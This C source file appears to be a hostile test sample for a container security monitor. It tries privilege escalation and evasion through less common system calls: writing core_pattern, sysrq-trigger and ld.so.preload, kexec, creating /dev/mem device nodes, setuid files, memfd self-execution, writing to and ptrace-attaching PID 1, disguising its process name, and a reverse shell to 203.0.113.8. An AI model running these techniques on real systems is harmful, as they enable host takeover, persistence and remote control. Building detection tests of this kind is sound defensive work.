/* Other ways to the same: what hostile.c attempts through the usual calls is attempted here through
   those that are easily forgotten. As "payload" it does nothing at all. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

static void end(int signal) {
  (void)signal;
  _exit(0);
}

static void in_child(void (*act)(void)) {
  pid_t child = fork();
  if (child == 0) {
    alarm(5);
    act();
    _exit(0);
  }
  if (child > 0) waitpid(child, NULL, 0);
}

static void say(int fd, const char *text) {
  struct iovec parts = {(void *)text, strlen(text)};
  if (fd >= 0) {
    if (writev(fd, &parts, 1) < 0) perror("writev");
    close(fd);
  }
}

static void settings_by_folder(void) {
  int folder = open("/proc/sys/kernel", O_PATH | O_DIRECTORY);
  say(openat(folder, "core_pattern", O_RDWR), "|/tmp/handler");
  if (chdir("/proc") == 0) say(open("./sysrq-trigger", O_WRONLY), "b");
  if (chdir("/etc/cron.d") == 0) say(open("../ld.so.preload", O_WRONLY | O_CREAT, 0644), "/tmp/a.so\n");
}

static void new_mounts(void) {
  int fd = syscall(SYS_fsopen, "tmpfs", 0);
  syscall(SYS_fsmount, fd, 0, 0);
  syscall(SYS_move_mount, fd, "", AT_FDCWD, "/tmp", 4);
}

static void other_kernel(void) { syscall(SYS_kexec_file_load, 0, 0, 0L, "", 0L); }

static void own_users(void) {
  if (syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0) == 0) _exit(0);
}

static void slow_clock(void) {
  struct timex change = {.modes = ADJ_OFFSET | ADJ_STATUS, .offset = 1};
  adjtimex(&change);
}

static void rare_socket(void) { socket(AF_VSOCK, SOCK_STREAM, 0); }

static void device_here(void) {
  int folder = open("/tmp", O_PATH | O_DIRECTORY);
  mknodat(folder, "console", S_IFCHR | 0600, makedev(5, 1));
  mknodat(folder, "memory", S_IFCHR | 0600, makedev(1, 1));
  close(openat(folder, "memory", O_RDWR));
}

static void copy_self(int to) {
  char block[65536];
  ssize_t length;
  int from = open("/proc/self/exe", O_RDONLY);
  while ((length = read(from, block, sizeof block)) > 0) {
    if (write(to, block, length) != length) break;
  }
  close(from);
}

static void setuid_here(void) {
  int folder = open("/tmp", O_PATH | O_DIRECTORY);
  close(openat(folder, "tool", O_WRONLY | O_CREAT, 0755));
  fchmodat(folder, "tool", 04755, 0);
}

static void renamed_program(void) {
  int fd = open("/tmp/.part", O_WRONLY | O_CREAT, 0755);
  copy_self(fd);
  close(fd);
  rename("/tmp/.part", "/tmp/whole");
  execl("/tmp/whole", "payload", (char *)0);
}

static void memory_by_number(void) {
  char path[64];
  int fd = memfd_create("x", 0);
  copy_self(fd);
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  execl(path, "payload", (char *)0);
}

static void others_memory(void) {
  char some[8] = {0};
  struct iovec here = {some, sizeof some}, there = {(void *)0x400000, sizeof some};
  syscall(SYS_process_vm_writev, 1, &here, 1, &there, 1, 0);
  ptrace(PTRACE_ATTACH, 1, NULL, NULL);
}

static void a_key(void) { syscall(SYS_add_key, "user", "name", "value", 5, -3); }

static void drops_capabilities(void) {
  struct __user_cap_header_struct head = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct none[2] = {{0}, {0}};
  syscall(SYS_capset, &head, none);
}

static void half_a_user(void) {
  if (setresuid(1000, 0, 0) == 0) close(open("/etc/passwd", O_RDONLY));
}

static void lying_name(void) { execl("/app/main", "[kworker/0:1]", (char *)0); }

static void shell_by_fcntl(void) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(443)};
  inet_pton(AF_INET, "203.0.113.8", &to.sin_addr);
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  connect(fd, (struct sockaddr *)&to, sizeof to);
  for (int stream = 0; stream < 3; stream++) {
    close(stream);
    fcntl(fd, F_DUPFD, stream);
  }
  execl("/bin/sh", "sh", (char *)0);
}

int main(int count, char **words) {
  void (*acts[])(void) = {
      settings_by_folder, new_mounts,      other_kernel,       own_users,   slow_clock,
      rare_socket,        device_here,     setuid_here,        renamed_program, memory_by_number,
      others_memory,      a_key,           drops_capabilities, half_a_user, lying_name,
      shell_by_fcntl,
  };
  if (count < 1 || strcmp(words[0], "/app/main") != 0) return 0;
  signal(SIGTERM, end);
  for (unsigned i = 0; i < sizeof acts / sizeof *acts; i++) in_child(acts[i]);
  for (;;) pause();
}
